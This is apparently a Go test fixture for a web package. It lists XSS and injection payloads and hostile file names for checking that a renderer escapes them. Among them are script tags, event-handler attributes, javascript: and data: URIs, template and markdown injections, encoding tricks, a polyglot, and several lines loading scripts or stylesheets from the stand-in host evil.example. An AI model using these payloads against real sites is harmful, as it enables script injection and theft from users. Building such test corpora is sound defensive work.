package webtest

import (
	"strings"
	"unicode/utf8"
)

// corpus is text that runs, or loads something, where a page takes it for more than text. It calls
// what the marker replaces, or asks another server.
var corpus = []string{
	`<script>alert(1)</script>`,
	`"><script src=//evil.example/x.js></script>`,
	`</title></textarea></style></noscript></script><script>alert(2)</script>`,
	`<img src=x onerror=alert(3)>`,
	`'"><img src=//evil.example/a.png onload=alert(4)>`,
	`<svg onload=alert(5)><animate onbegin=alert(5) attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:alert(6)"><text y=9>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(7)>`,
	`<math href="javascript:alert(8)">x</math>`,
	`javascript:alert(9)`, `JaVaScRiPt:alert(10)//`, "java\tscript:alert(11)",
	`data:text/html,<script>alert(12)</script>`, `vbscript:alert(13)`,
	`" autofocus onfocus=alert(14) x="`, `' onmouseover=alert(15) x='`, "` onclick=alert(16) x=`",
	` style=background:url(//evil.example/b) `, `<style>@import "//evil.example/c";</style>`,
	`<iframe srcdoc="<script>alert(17)</script>">`, `<object data="data:text/html,x">`,
	`<base href="//evil.example/">`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<link rel=stylesheet href=//evil.example/d.css>`, `<form action=//evil.example><button>x`,
	`<details open ontoggle=alert(18)>`, `<video><source onerror=alert(19)></video>`,
	`{{alert(20)}} {{constructor.constructor("alert(21)")()}} ${alert(22)} <%= alert(23) %> #{1}`,
	`{{define "content"}}x{{end}}{{.Token}}`,
	`[x](javascript:alert(24))`, `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](//evil.example/e.png "x")`, `![x](javascript:alert(25))`, `<javascript:alert(26)>`,
	"[x]: javascript:alert(27)\n[x]", `[a](<javascript:alert(28)> "t" onclick=alert(28))`,
	"```\"><script>alert(29)</script>\nx\n```", "``` js onload=alert(30)\nx\n```",
	`[x](&#106;avascript:alert(31))`, `[x](java&Tab;script:alert(32))`, `<a href="jav&#x0A;ascript:alert(33)">x`,
	`<!--><img src=x onerror=alert(34)>-->`, `<![CDATA[<img src=x onerror=alert(35)>]]>`,
	`<?xml version="1.0"?><x onload=alert(36)>`, `<x xmlns="http://www.w3.org/1999/xhtml">`,
	"safe\u202egnp.exe\u2066x\u2069", "\u200b\ufeff\u00ad", "\u2028alert(37)\u2029",
	`&lt;script&gt;alert(38)&lt;/script&gt;`, `\u003cscript\u003ealert(39)\u003c/script\u003e`,
	`%3Cscript%3Ealert(40)%3C/script%3E`, `+ADw-script+AD4-alert(41)+ADw-/script+AD4-`,
	`jaVasCript:/*-/*` + "`" + `/*\` + "`" + `/*'/*"/**/(/* */oNcliCk=alert(42) )//%0D%0A%0d%0a//` +
		`</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(43)//>\x3e`,
	`<a id=main name=form><input name=token value=x form=code-form>`,
}

// hostilePaths are names of files. Their parts are separated by slashes, as those of tags are.
var hostilePaths = []string{
	`"><img src=x onerror=alert(50)>.md`, `<script>alert(51)</script>.html`, `javascript:alert(52)`,
	`a'b"c&d<e>.svg`, `{{.Token}}.go`, "\u202egnp.txt", `?x=1#y%2F..%2f`, `%2e%2e/%3Cb%3E`,
	`data:text/html,x`, ` .md`, "evil.example:80/x.md", `x" onclick="alert(53).md`, `+ADw-b+AD4-`,
}

// lineOf makes one line of a text.
func lineOf(text string) string {
	return strings.NewReplacer("\n", " ", "\t", " ", "\u2028", " ", "\u2029", " ").Replace(text)
}

// bin is the nth text of at most so many characters that has as much of the corpus as fits. Texts
// with a higher n have the rest, and so on in turn.
func bin(nth, chars int, separator string) string {
	var bins []string
	for _, one := range corpus {
		if separator == " " {
			one = strings.TrimSpace(lineOf(one))
		}
		if runes := []rune(one); len(runes) > chars {
			one = string(runes[:chars])
		}
		last := len(bins) - 1
		if last >= 0 && utf8.RuneCountInString(bins[last]+separator+one) <= chars {
			bins[last] += separator + one
			continue
		}
		bins = append(bins, one)
	}
	return bins[nth%len(bins)]
}
